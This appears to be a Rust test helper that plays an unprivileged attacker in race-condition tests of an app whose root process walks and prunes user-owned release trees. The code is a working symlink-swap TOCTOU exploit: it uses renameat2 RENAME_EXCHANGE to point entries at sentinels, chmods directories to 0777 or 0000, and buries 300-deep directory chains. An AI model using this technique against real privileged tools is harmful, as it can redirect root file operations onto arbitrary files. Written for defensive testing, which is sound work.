//! The app's user turned attacker, for the race tests (issue 13): run as that user, it finds
//! every directory it owns under a release root, makes it world-writable (or, for each `d7`,
//! unreadable; in each `d0/d6` it buries a chain 300 directories deep), keeps a descriptor to
//! each (so it can go on after root moves the tree somewhere it cannot reach by path), and, above
//! all in those root has moved into the staging area, swaps every entry in them
//! with a symlink to a sentinel outside, and back, with `renameat2(RENAME_EXCHANGE)`, as fast as
//! it can, for a bounded time. A root tree walk that re-resolves a path between two steps then
//! acts on the sentinel instead.
//!
//! ```text
//! racer ROOT SENTINEL_FILE SENTINEL_DIR SECONDS
//! ```
//!
//! Prints `swaps=N dirs=M hot_rounds=K` at the end (K: rounds over directories root had
//! moved into the staging area). Exits 0 unless its arguments are wrong.

use std::collections::HashMap;
use std::ffi::OsStr;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rustix::fs::{self as rfs, Mode, OFlags, RenameFlags};

/// Most directories held open at once.
const MAX_HELD: usize = 4000;
const LINK_PREFIX: &str = ".racer-";

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, root, file, dir, seconds] = args.as_slice() else {
        eprintln!("usage: racer ROOT SENTINEL_FILE SENTINEL_DIR SECONDS");
        std::process::exit(2);
    };
    let seconds: f64 = seconds.parse().unwrap_or(1.0);
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let targets = [PathBuf::from(file), PathBuf::from(dir)];
    let uid = rustix::process::getuid().as_raw();
    raise_fd_limit();

    let mut held: HashMap<(u64, u64), OwnedFd> = HashMap::new();
    let mut swaps = 0u64;
    let mut hot_rounds = 0u64;
    let mut last_scan = Instant::now() - Duration::from_secs(1);
    let staging = Path::new(root).join(".staging");
    while Instant::now() < deadline {
        // Where root works on trees it takes from us: the staging area. Look there every
        // round; look everywhere else now and then.
        discover(&staging, uid, &mut held);
        if last_scan.elapsed() >= Duration::from_millis(100) {
            discover(Path::new(root), uid, &mut held);
            last_scan = Instant::now();
        }
        // Directories root took back are no longer ours to play with, unless root left them
        // world-writable.
        held.retain(|_, fd| {
            rfs::fstat(&*fd).is_ok_and(|st| st.st_uid == uid || st.st_mode & 0o002 != 0)
        });
        // A directory of ours that root has moved into the staging area (to prune it, say) is
        // about to be walked: hammer those. Otherwise one round over everything.
        let hot: Vec<&OwnedFd> = held.values().filter(|fd| in_staging(fd)).collect();
        // There, each entry stays swapped a little while, long enough for a walk to go
        // through it into the sentinel.
        let (targets_now, hold) = match hot.is_empty() {
            true => (held.values().collect::<Vec<_>>(), None),
            false => (hot, Some(Duration::from_micros(200))),
        };
        hot_rounds += u64::from(hold.is_some());
        for (i, fd) in targets_now.iter().enumerate() {
            swaps += attack(fd, &targets[i % 2], hold);
        }
        if held.is_empty() {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    println!("swaps={swaps} dirs={} hot_rounds={hot_rounds}", held.len());
}

/// Whether the directory behind `fd` is now somewhere under a `.staging`, wherever it started.
fn in_staging(fd: &OwnedFd) -> bool {
    use std::os::fd::AsRawFd;
    std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .is_ok_and(|p| p.to_string_lossy().contains("/.staging/"))
}

fn raise_fd_limit() {
    use rustix::process::{getrlimit, setrlimit, Resource};
    let mut limit = getrlimit(Resource::Nofile);
    limit.current = limit.maximum;
    let _ = setrlimit(Resource::Nofile, limit);
}

/// Walks `dir` by path (what the attacker can reach), holding every directory it owns.
fn discover(dir: &Path, uid: u32, held: &mut HashMap<(u64, u64), OwnedFd>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        if entry
            .file_name()
            .as_bytes()
            .starts_with(LINK_PREFIX.as_bytes())
        {
            continue;
        }
        let path = entry.path();
        let Ok(meta) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        if !meta.is_dir() {
            continue;
        }
        let key = (meta.dev(), meta.ino());
        if meta.uid() == uid && !held.contains_key(&key) && held.len() < MAX_HELD {
            let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
            if let Ok(fd) = rfs::open(&path, flags, Mode::empty()) {
                // World-writable: if root takes it back but keeps the mode, we still can. Every
                // `d7` is made 0000 instead, against a root without CAP_DAC_OVERRIDE that must
                // still prune it.
                let mode = match entry.file_name().as_bytes() {
                    b"d7" => 0,
                    _ => 0o777,
                };
                let _ = rfs::fchmod(&fd, Mode::from_raw_mode(mode));
                if path.ends_with("d0/d6") {
                    bury(&fd);
                }
                held.insert(key, fd);
            }
        }
        discover(&path, uid, held);
    }
}

/// Builds a chain of 300 directories in `dir` (as deep as the app's user likes), the last one
/// unreadable, against walks that hold a descriptor per level.
fn bury(dir: &OwnedFd) {
    let Ok(mut fd) = rfs::openat(dir, c".", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty())
    else {
        return;
    };
    for _ in 0..300 {
        let _ = rfs::mkdirat(&fd, "deep", Mode::from_raw_mode(0o755));
        match rfs::openat(
            &fd,
            "deep",
            OFlags::RDONLY | OFlags::DIRECTORY,
            Mode::empty(),
        ) {
            Ok(next) => fd = next,
            Err(_) => return,
        }
    }
    let _ = rfs::fchmod(&fd, Mode::from_raw_mode(0));
}

/// One round over the entries of `dir`: each swapped with a symlink to `target` and back,
/// after `hold`.
fn attack(dir: &OwnedFd, target: &Path, hold: Option<Duration>) -> u64 {
    let Ok(listing) = rfs::openat(
        dir,
        c".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    ) else {
        return 0;
    };
    let Ok(entries) = rfs::Dir::new(listing) else {
        return 0;
    };
    let names: Vec<Vec<u8>> = entries
        .flatten()
        .map(|e| e.file_name().to_bytes().to_vec())
        .filter(|n| n != b"." && n != b".." && !n.starts_with(LINK_PREFIX.as_bytes()))
        .collect();
    let mut swaps = 0;
    for (i, name) in names.iter().enumerate() {
        let name = OsStr::from_bytes(name);
        let link = format!("{LINK_PREFIX}{i}");
        let _ = rfs::symlinkat(target, dir.as_fd(), link.as_str());
        let exchange =
            |a: &OsStr, b: &str| rfs::renameat_with(dir, a, dir, b, RenameFlags::EXCHANGE).is_ok();
        if exchange(name, &link) {
            swaps += 1;
            if let Some(hold) = hold {
                std::thread::sleep(hold);
            }
            // Back again, so the walk finds the real directory later and goes on into it.
            let _ = exchange(name, &link);
        }
    }
    swaps
}
